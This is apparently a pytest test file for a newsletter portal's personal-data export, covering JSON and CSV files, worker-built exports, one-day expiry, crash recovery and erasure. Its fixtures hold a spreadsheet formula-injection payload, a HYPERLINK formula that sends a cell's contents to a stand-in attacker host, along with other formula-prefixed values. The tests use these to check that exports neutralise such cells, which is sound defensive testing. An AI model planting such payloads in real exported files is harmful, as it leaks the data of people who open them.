"""Copies of one's data: in the moment for most people, by a worker for those of whom there is much."""

import csv
import io
import json
import shutil
import subprocess
import zipfile
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from botocore.exceptions import ClientError
from hypothesis import given
from hypothesis import strategies as st

from chalicelib.core import clock
from chalicelib.core.errors import NotFound
from chalicelib.portal import erase, export, files, gather, rules
from chalicelib.portal.kinds import FORMAT, KINDS, VERSION
from tests.faults.hooks import Killed, killed_at, refused
from tests.support import people
from tests.support.world import World

pytestmark = pytest.mark.promise("RGT-2")
FORMULAS = ("=", "+", "-", "@", "\t", "\r")
OFFICE = shutil.which("soffice") or shutil.which("libreoffice")
EVIL = "=HYPERLINK(\"https://evil.example/?\"&A1)"
EMPTY: dict[str, list[dict[str, Any]]] = {kind: [] for kind in KINDS}
RECORD = {"account_id": "a", "controller": EVIL, "list_id": "a-b", "list": "@SUM(1)", "subscription_id": "-1+1",
          "state": "confirmed", "address": "+49@example.org", "fields": {"first_name": EVIL}, "source": "form",
          "confirmed_at": "2026-11-24T09:15:00Z", "consent": {"ip": "\t=1", "wording": "\r=1"}, "tracking": None}


@pytest.fixture
def much(world: World, monkeypatch: pytest.MonkeyPatch) -> World:
    """A world in which one campaign is much; Carol has had one."""
    world.sent_newsletter(world.a_list(), tracking=True)
    world.forget_mail()
    monkeypatch.setattr(rules, "MOST_CAMPAIGNS", 0)
    return world


def _start(world: World) -> export.Export:
    return export.start(world.person(world.carol), world.carol, clock.now())


def _state(world: World) -> export.Export:
    return export.state(world.person(world.carol), clock.now())


def _file(world: World, form: str) -> export.File:
    return export.file(world.person(world.carol), form, clock.now())


def _unzipped(body: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


# --- in the moment

def test_what_there_is_of_most_people_is_made_in_the_moment_and_stored_nowhere(world: World) -> None:
    world.sent_newsletter(world.a_list(), tracking=True)
    before = world.everything_stored()

    assert _start(world).state == export.READY
    got = _file(world, export.JSON)

    whole = json.loads(got.body)
    assert (whole["format"], whole["version"]) == (FORMAT, VERSION)
    assert whole["records"] == gather.everything(world.person(world.carol), clock.now()), "lossless"
    assert (got.content_type, got.name) == ("application/json", f"my-data-{world.today()}-json.json")
    assert world.everything_stored() == before
    assert people.objects() == {}


def test_a_person_of_whom_nothing_is_known_gets_that(world: World) -> None:
    assert _state(world).state == export.NONE
    assert json.loads(_file(world, export.JSON).body)["records"] == EMPTY
    assert list(_unzipped(_file(world, export.CSV).body)) == ["about.csv"]


def test_there_is_no_third_form(world: World) -> None:
    with pytest.raises(NotFound):
        _file(world, "xml")


# --- CSV

def _cells(body: bytes) -> list[list[str]]:
    assert body.startswith("\ufeff".encode()), "Excel knows UTF-8 by it"
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def test_tables_have_a_row_for_each_record_and_a_column_for_each_field() -> None:
    tables = dict(files.tables(EMPTY | {"subscriptions": [RECORD]}))

    header, row = _cells(tables["subscriptions.csv"])
    assert header == list(KINDS["subscriptions"][1])
    assert row[header.index("confirmed_at")] == RECORD["confirmed_at"]
    assert row[header.index("fields")] == json.dumps(RECORD["fields"])
    assert row[header.index("tracking.at")] == ""
    about = _cells(tables["about.csv"])
    assert [one[0] for one in about[1:]] == [f"{kind}.csv" for kind in KINDS]
    assert dict(one[:2] for one in about[1:])["subscriptions.csv"] == "1"


@given(st.text(max_size=40))
def test_no_cell_is_taken_for_a_formula_whatever_was_typed_into_a_form(text: str) -> None:
    hostile = {**RECORD, "controller": text, "address": text, "consent": {"wording": text}}

    for body in dict(files.tables(EMPTY | {"subscriptions": [hostile]})).values():
        assert not [cell for row in _cells(body) for cell in row if cell.startswith(FORMULAS)]


@pytest.mark.skipif(OFFICE is None, reason="no LibreOffice here (apt-get install libreoffice-calc-nogui)")
def test_libreoffice_finds_no_formula(tmp_path: Path) -> None:
    for name, body in files.tables(EMPTY | {"subscriptions": [RECORD]}):
        (tmp_path / name).write_bytes(body)
    home = f"-env:UserInstallation=file://{tmp_path}/home"

    subprocess.run([str(OFFICE), home, "--headless", "--convert-to", "fods", "--outdir", tmp_path,
                    tmp_path / "subscriptions.csv"], check=True, capture_output=True, timeout=120)

    opened = (tmp_path / "subscriptions.fods").read_text()
    assert "evil.example" in opened
    assert "table:formula" not in opened


# --- by a worker

def test_large_copies_are_made_by_a_worker_and_told_of_by_a_mail_that_holds_none_of_it(much: World) -> None:
    assert _start(much).state == export.MAKING
    assert _start(much).state == export.MAKING
    assert len(much.waiting("exports")) == 1, "asked twice, made once"
    assert much.carol.lower() not in much.waiting("exports")[0].lower()
    with pytest.raises(NotFound):
        _file(much, export.JSON)

    much.drain()

    ready = _state(much)
    assert (ready.state, ready.done, ready.total) == (export.READY, 1, 1)
    mail, = much.inbox()
    assert mail.to == much.carol
    assert "/portal" in mail.text
    assert not [word for word in ("Garden", "198.51", much.person(much.carol)) if word in mail.text]
    records = json.loads(_file(much, export.JSON).body)["records"]
    assert [one["subject"] for one in records["messages"]] == ["What to sow in May"]
    assert "messages.csv" in _unzipped(_file(much, export.CSV).body)
    assert "address" not in {name for row in much.scan("ephemeral") for name in row if row["pk"]["S"][:6] == "export"}
    assert not [key for key in people.objects() if much.person(much.carol) in key]


def test_they_are_there_for_a_day(much: World) -> None:
    _start(much)
    much.drain()
    made = clock.now()

    much.advance_to(made + timedelta(hours=23))
    assert _state(much).state == export.READY
    much.advance_to(made + timedelta(hours=25))

    assert _state(much).state == export.NONE
    with pytest.raises(NotFound):
        _file(much, export.JSON)
    assert _start(much).state == export.MAKING


def test_what_is_not_made_within_an_hour_has_failed_and_may_be_asked_for_again(much: World) -> None:
    _start(much)
    much.advance(minutes=61)
    assert _state(much).state == export.FAILED

    _start(much)
    much.drain()

    assert _state(much).state == export.READY
    assert len(much.inbox()) == 1, "the first message leads nowhere any more"


def test_with_the_queue_down_nothing_is_promised(much: World) -> None:
    with refused("SendMessage", "InternalError", times=9), pytest.raises(ClientError):
        _start(much)

    assert _state(much).state == export.NONE
    assert _start(much).state == export.MAKING


def test_copies_too_large_for_one_answer_are_not_promised(much: World, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(files, "LARGEST", 300)
    _start(much)
    much.drain()

    assert (_state(much).state, much.inbox(), people.objects()) == (export.FAILED, [], {})


def test_json_too_large_for_one_answer_is_zipped(much: World, monkeypatch: pytest.MonkeyPatch) -> None:
    _start(much)
    much.drain()
    whole = _file(much, export.JSON)
    body = files.made(export.JSON, json.loads(whole.body)["records"], clock.now())
    monkeypatch.setattr(files, "LARGEST", len(body) - 1)

    zipped = files.named(export.JSON, files.made(export.JSON, json.loads(body)["records"], clock.now()), clock.now())

    assert zipped.content_type == "application/zip"
    assert json.loads(_unzipped(zipped.body)["export.json"])["records"] == json.loads(body)["records"]


def test_a_worker_that_dies_anywhere_is_taken_up_again(much: World) -> None:
    _start(much)
    message, = much.waiting("exports")
    calls = 0
    while True:
        with killed_at(calls, "after") as made:
            try:
                much.workers.deliver("exports", message)
            except Killed:
                calls += 1
                continue
        break

    assert len(made) < 10, "the last time there was next to nothing left to do"
    assert _state(much).state == export.READY
    assert much.inbox()
    assert len(people.objects()) == 2


def test_who_is_erased_while_copies_are_made_has_none(much: World) -> None:
    _start(much)
    erase.erase(much.person(much.carol), None, clock.now())

    much.drain()

    assert (_state(much).state, much.inbox(), people.objects()) == (export.NONE, [], {})
